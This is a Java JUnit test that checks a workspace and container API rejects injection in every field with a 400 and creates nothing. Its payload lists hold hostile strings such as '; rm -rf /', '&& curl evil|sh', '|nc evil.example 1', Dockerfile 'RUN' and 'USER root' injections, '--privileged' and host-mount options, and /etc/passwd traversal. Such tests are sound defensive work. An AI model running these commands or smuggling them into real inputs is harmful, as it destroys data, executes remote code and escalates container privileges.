package io.a4c.local;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.a4c.local.testing.ApiClient;
import io.a4c.local.testing.Fleet;
import io.a4c.local.testing.Scenario;
import io.a4c.local.testing.SharedRuntime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Shell, Dockerfile, label and path injection in every field that reaches a container label, a
 * command line or a Dockerfile (project source, base image, tools, parents, setup lines, change,
 * image reference, names, the user id in the path, the idempotency key): each is a 400 problem
 * naming the field, and nothing is written and no container made.
 */
@ExtendWith(SharedRuntime.class)
class InjectionTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  /**
   * Hostile suffixes: shell, Dockerfile line breaks, options, traversal, control and look-alike
   * characters.
   */
  static final List<String> PAYLOADS =
      List.of(
          "; rm -rf /",
          "$(reboot)",
          "`id`",
          "|nc evil.example 1",
          "&& curl evil|sh",
          "\nRUN curl evil|sh",
          "\r\nUSER root",
          "' --privileged '",
          "\" -v /:/host \"",
          "../../../etc/passwd",
          "x\u0000y",
          "${IFS}id",
          " --label io.a4c.user-id=root",
          "\\",
          "\u202Egnp.exe",
          "ｒｍ",
          "\t");

  /** Payloads that must be refused even in a setup line (which is a shell command by design). */
  static final List<String> SETUP_PAYLOADS =
      List.of("\nRUN curl evil|sh", "\r\nUSER root", "x\u0000y", "ends in \\", "\t", "\u202Egnp");

  private record Case(
      String what,
      String method,
      String path,
      String token,
      String body,
      Map<String, String> headers,
      String field) {}

  @Test
  void injectionInAnyFieldIsA400NamingItAndWritesNothing(ApiClient api, Fleet fleet) {
    var scenario = new Scenario(api);
    String project = scenario.createProject("inject");
    scenario.registerImage(project, "amd64", "1", "a4c-base:busybox");
    String user = scenario.user("mallory");
    String admin = api.adminToken();
    String evilProject = scenario.project("inject-evil");
    List<Case> cases = new ArrayList<>();

    BiFunction<String, String, String> create =
        (field, value) -> {
          ObjectNode body =
              JSON.createObjectNode()
                  .put("projectName", project)
                  .put("parentName", "main")
                  .put("arch", "amd64");
          body.put(field, value);
          return body.toString();
        };
    BiFunction<String, String, String> projectBody =
        (field, value) -> {
          ObjectNode body = JSON.createObjectNode();
          body.putObject("source").put("type", "git").put("url", "https://git.example.com/x.git");
          body.put("baseImage", "a4c-base:busybox");
          body.putArray("tools").add("curl");
          body.putArray("parents").add("main");
          body.putArray("setup").add("echo ok");
          switch (field) {
            case "source.url" -> ((ObjectNode) body.get("source")).put("url", value);
            case "source.depotPath" ->
                body.putObject("source").put("type", "perforce").put("depotPath", value);
            case "tools[0]" -> body.putArray("tools").add(value);
            case "parents[0]" -> body.putArray("parents").add(value);
            case "setup[0]" -> body.putArray("setup").add(value);
            default -> body.put(field, value);
          }
          return body.toString();
        };
    BiFunction<String, String, String> image =
        (field, value) -> {
          ObjectNode body =
              JSON.createObjectNode()
                  .put("parentName", "main")
                  .put("arch", "amd64")
                  .put("change", "7")
                  .put("imageRef", "a4c-base:busybox");
          body.put(field, value);
          return body.toString();
        };

    String workspaces = "/v1/users/" + user + "/workspaces";
    for (String payload : PAYLOADS) {
      for (String field : List.of("projectName", "parentName", "change", "name", "arch")) {
        String value =
            (field.equals("projectName") ? project : field.equals("arch") ? "amd64" : "main")
                + payload;
        cases.add(
            new Case(
                "create " + field,
                "POST",
                workspaces,
                api.tokenOf(user),
                create.apply(field, value),
                Map.of(),
                field));
      }
      if (!payload.isBlank() && payload.chars().allMatch(c -> c >= 0x20 && c <= 0x7e)) {
        // What an HTTP client can put in a header at all.
        cases.add(
            new Case(
                "create Idempotency-Key",
                "POST",
                workspaces,
                api.tokenOf(user),
                create.apply("name", "ok"),
                Map.of("Idempotency-Key", "key" + payload),
                "Idempotency-Key"));
      }
      for (String field :
          List.of("source.url", "source.depotPath", "baseImage", "tools[0]", "parents[0]")) {
        String base =
            switch (field) {
              case "source.url" -> "https://git.example.com/x.git";
              case "source.depotPath" -> "//depot/x/...";
              case "baseImage" -> "a4c-base:busybox";
              default -> "main";
            };
        cases.add(
            new Case(
                "project " + field,
                "PUT",
                "/v1/projects/" + evilProject,
                admin,
                projectBody.apply(field, base + payload),
                Map.of(),
                field));
      }
      for (String field : List.of("parentName", "change", "imageRef", "arch")) {
        String base =
            field.equals("imageRef") ? "a4c-base:busybox" : field.equals("arch") ? "amd64" : "main";
        cases.add(
            new Case(
                "image " + field,
                "POST",
                "/v1/projects/" + project + "/images",
                admin,
                image.apply(field, base + payload),
                Map.of(),
                field));
      }
      cases.add(
          new Case(
              "audit userId",
              "GET",
              "/v1/audit?userId="
                  + java.net.URLEncoder.encode(
                      "x" + payload, java.nio.charset.StandardCharsets.UTF_8),
              admin,
              null,
              Map.of(),
              "userId"));
    }
    for (String payload : SETUP_PAYLOADS) {
      cases.add(
          new Case(
              "project setup[0]",
              "PUT",
              "/v1/projects/" + evilProject,
              admin,
              projectBody.apply("setup[0]", "echo ok" + payload),
              Map.of(),
              "setup[0]"));
    }
    // An admin creating in the name of a user id that is itself an injection: a 400, not a label.
    cases.add(
        new Case(
            "create userId",
            "POST",
            "/v1/users/"
                + java.net.URLEncoder.encode("x;id", java.nio.charset.StandardCharsets.UTF_8)
                + "/workspaces",
            admin,
            create.apply("name", "ok"),
            Map.of(),
            "userId"));
    cases.add(
        new Case(
            "delete force",
            "DELETE",
            workspaces + "/ws-0000000000000000000000zzzz?force=yes;id",
            admin,
            null,
            Map.of(),
            "force"));

    for (Case c : cases) {
      var reply =
          api.send(c.method(), c.path(), c.token(), c.body(), "application/json", c.headers());
      assertThat(reply.status())
          .as(c.what() + " " + c.body() + " -> " + reply.body())
          .isEqualTo(400);
      assertThat(reply.at("/field")).as(c.what() + " " + c.body()).isEqualTo(c.field());
      assertThat(reply.contentType()).isEqualTo("application/problem+json");
    }

    assertThat(api.get("/v1/projects/" + evilProject, admin).status()).isEqualTo(404);
    assertThat(api.get(workspaces, api.tokenOf(user)).json().get("items")).isEmpty();
    assertThat(api.get("/v1/audit?userId=" + user, admin).json().get("items")).isEmpty();
    assertThat(fleet.containersOf(user)).isEmpty();
  }
}
